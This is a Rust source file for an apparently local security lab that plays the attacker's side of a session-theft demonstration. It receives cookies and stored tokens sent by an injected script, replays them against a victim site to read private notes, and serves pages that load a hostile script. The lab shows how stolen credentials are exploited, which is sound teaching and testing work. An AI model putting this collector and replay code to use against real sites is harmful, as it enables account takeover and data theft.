//! The attacker's site, and his own client: real requests over this machine's own network.

use super::{
    super::cookie,
    Lab,
    pocket::{Client, Source},
    record::{self, milliseconds, run_of},
    router::file,
    sites,
};
use axum::{
    Json, Router,
    extract::{Path, Query, State as Extract},
    middleware,
    response::{Html, IntoResponse, Response},
    routing::{get, post},
};
use http::{HeaderMap, HeaderValue, StatusCode, Uri, header};
use serde::{Deserialize, Serialize};
use std::{collections::HashMap, sync::Arc};
use tokio::time::Instant;

const INJECTED: &str = include_str!("injected.js");
const ACTING: &str = include_str!("acting.js");
const HOSTILE: &str = include_str!("hostile.js");

/// The whole of it.
pub fn router(lab: Lab) -> Router {
    let origins: Arc<[String]> = Arc::new([lab.sites.other.clone(), lab.sites.sibling.clone()]);
    let script = |text| get(async move || file("text/javascript", text));
    Router::new()
        .route("/loot", post(take))
        .layer(middleware::from_fn_with_state(lab.clone(), record::keep))
        .route("/loot", get(look))
        .route("/replay", post(replay))
        .route("/sign-in", post(sign_in))
        .route("/sign-up", post(sign_up))
        .route("/pages/{kind}", get(page))
        .route("/injected.js", script(INJECTED))
        .route("/acting.js", script(ACTING))
        .route("/hostile.js", script(HOSTILE))
        .layer(middleware::map_response(open_to_all))
        .layer(middleware::from_fn_with_state(origins, sites::only_as))
        .with_state(lab)
}

/// The attacker does not mind who reads his answers.
async fn open_to_all(mut response: Response) -> Response {
    let headers = response.headers_mut();
    headers.insert(
        header::ACCESS_CONTROL_ALLOW_ORIGIN,
        HeaderValue::from_static("*"),
    );
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    response
}

/// What an injected script sends: all that it could read.
#[derive(Deserialize)]
struct Loot {
    storage: HashMap<String, String>,
    cookies: String,
}

/// `POST /loot`.
async fn take(Extract(lab): Extract<Lab>, uri: Uri, body: String) -> StatusCode {
    let (Some(run), Ok(loot)) = (run_of(&uri), serde_json::from_str::<Loot>(&body)) else {
        return StatusCode::BAD_REQUEST;
    };
    let mut kept = loot.storage.into_values();
    if let Some(token) = kept.find(|it| it.split('.').count() == 3) {
        lab.pockets.put(&run, Source::Script, Client::A, token);
    }
    lab.pockets
        .put(&run, Source::Script, Client::B, loot.cookies);
    StatusCode::NO_CONTENT
}

/// What the attacker has of a kind: how much, and not what.
#[derive(Serialize)]
struct Has {
    source: Source,
    client: Client,
    /// In bytes.
    size: usize,
}

/// `GET /loot`.
async fn look(Extract(lab): Extract<Lab>, uri: Uri) -> Json<Vec<Has>> {
    let run = run_of(&uri).unwrap_or_default();
    let all = [Source::Script, Source::Disk, Source::Own]
        .into_iter()
        .flat_map(|source| [(source, Client::A), (source, Client::B)]);
    let has = all.filter_map(|(source, client)| {
        let value = lab.pockets.get(&run, source, client)?;
        let size = value.len();
        Some(Has {
            source,
            client,
            size,
        })
    });
    Json(has.collect())
}

/// What he shows to whom.
#[derive(Deserialize)]
struct Replay {
    source: Source,
    client: Client,
}

/// What his client came back with.
#[derive(Serialize)]
struct Answer {
    status: u16,
    /// In milliseconds.
    took_ms: f64,
    /// The texts of the notes that he reads now.
    read: Vec<String>,
}

/// `POST /replay`: he asks for the notes with what he has.
async fn replay(
    Extract(lab): Extract<Lab>,
    Query(Replay { source, client }): Query<Replay>,
    uri: Uri,
) -> Result<Json<Answer>, StatusCode> {
    #[derive(Deserialize)]
    struct Note {
        text: String,
    }
    let run = run_of(&uri).ok_or(StatusCode::BAD_REQUEST)?;
    let path = match client {
        Client::A => "/lab/notes",
        Client::B => "/api/list_notes",
    };
    let url = format!("{}{path}?run={run}", lab.sites.victim);
    let mut request = lab.client.get(url);
    if let Some(value) = lab.pockets.get(&run, source, client) {
        request = match client {
            Client::A => request.header(header::AUTHORIZATION, format!("Bearer {value}")),
            Client::B if value.is_empty() => request,
            Client::B => request.header(header::COOKIE, value),
        };
    }
    let began = Instant::now();
    let answer = request.send().await.map_err(|_| StatusCode::BAD_GATEWAY)?;
    let status = answer.status().as_u16();
    let body = answer.text().await.map_err(|_| StatusCode::BAD_GATEWAY)?;
    let took_ms = milliseconds(began.elapsed());
    let notes: Vec<Note> = serde_json::from_str(&body).unwrap_or_default();
    Ok(Json(Answer {
        status,
        took_ms,
        read: notes.into_iter().map(|note| note.text).collect(),
    }))
}

/// What signing in to A answers.
#[derive(Deserialize)]
struct Issued {
    access_token: String,
}

/// The fields of signing in.
#[derive(Serialize, Deserialize)]
struct Account {
    email: String,
    password: String,
}

/// `POST /sign-in`: he knows the password, and is one more device of the victim's.
async fn sign_in(
    Extract(lab): Extract<Lab>,
    uri: Uri,
    body: String,
) -> Result<StatusCode, StatusCode> {
    let run = run_of(&uri).ok_or(StatusCode::BAD_REQUEST)?;
    let account = serde_json::from_str(&body).map_err(|_| StatusCode::BAD_REQUEST)?;
    start(&lab, &run, "/api/sign_in", &account).await
}

/// `POST /sign-up`: he makes an account of his own, and signs in to both clients with it.
async fn sign_up(Extract(lab): Extract<Lab>, uri: Uri) -> Result<StatusCode, StatusCode> {
    let run = run_of(&uri).ok_or(StatusCode::BAD_REQUEST)?;
    let account = Account {
        email: format!("mallory-{run}@lab.example"),
        password: lab.state.random.id().map_err(super::refuse)?,
    };
    start(&lab, &run, "/api/sign_up", &account).await?;
    start(&lab, &run, "/lab/tokens", &account).await
}

/// Asks for a session or a token, and keeps it.
async fn start(
    lab: &Lab,
    run: &str,
    path: &str,
    account: &Account,
) -> Result<StatusCode, StatusCode> {
    let body = form_urlencoded::Serializer::new(String::new())
        .append_pair("email", &account.email)
        .append_pair("password", &account.password)
        .finish();
    let request = lab
        .client
        .post(format!("{}{path}?run={run}", lab.sites.victim))
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(body);
    let lost = |_| StatusCode::BAD_GATEWAY;
    let answer = request.send().await.map_err(lost)?;
    let status = answer.status();
    let names = &lab.state.cookie_names;
    if let Some(token) = cookie::handed_out(answer.headers(), names) {
        let cookies = format!("{}={token}", names.session);
        lab.pockets.put(run, Source::Own, Client::B, cookies);
    }
    let body = answer.text().await.map_err(lost)?;
    if let Ok(Issued { access_token }) = serde_json::from_str(&body) {
        lab.pockets.put(run, Source::Own, Client::A, access_token);
    }
    Ok(status)
}

/// `GET /pages/{kind}`: a page that tries one thing as soon as it is opened.
async fn page(
    Extract(lab): Extract<Lab>,
    Path(kind): Path<String>,
    headers: HeaderMap,
) -> Response {
    if !["form", "fetch", "image", "socket", "plant"].contains(&&*kind) {
        return StatusCode::NOT_FOUND.into_response();
    }
    let host = headers.get(header::HOST).and_then(|it| it.to_str().ok());
    let host = host.unwrap_or_default();
    let victim = &lab.sites.victim;
    // `only_as` has let in the lab's own hosts alone, so that the host's name is plain text.
    Html(format!(
        "<!DOCTYPE html><html lang=\"en\"><meta charset=\"utf-8\"><title>{host}</title>\
         <body data-kind=\"{kind}\" data-victim=\"{victim}\"><main></main>\
         <script src=\"/hostile.js\"></script></body></html>"
    ))
    .into_response()
}
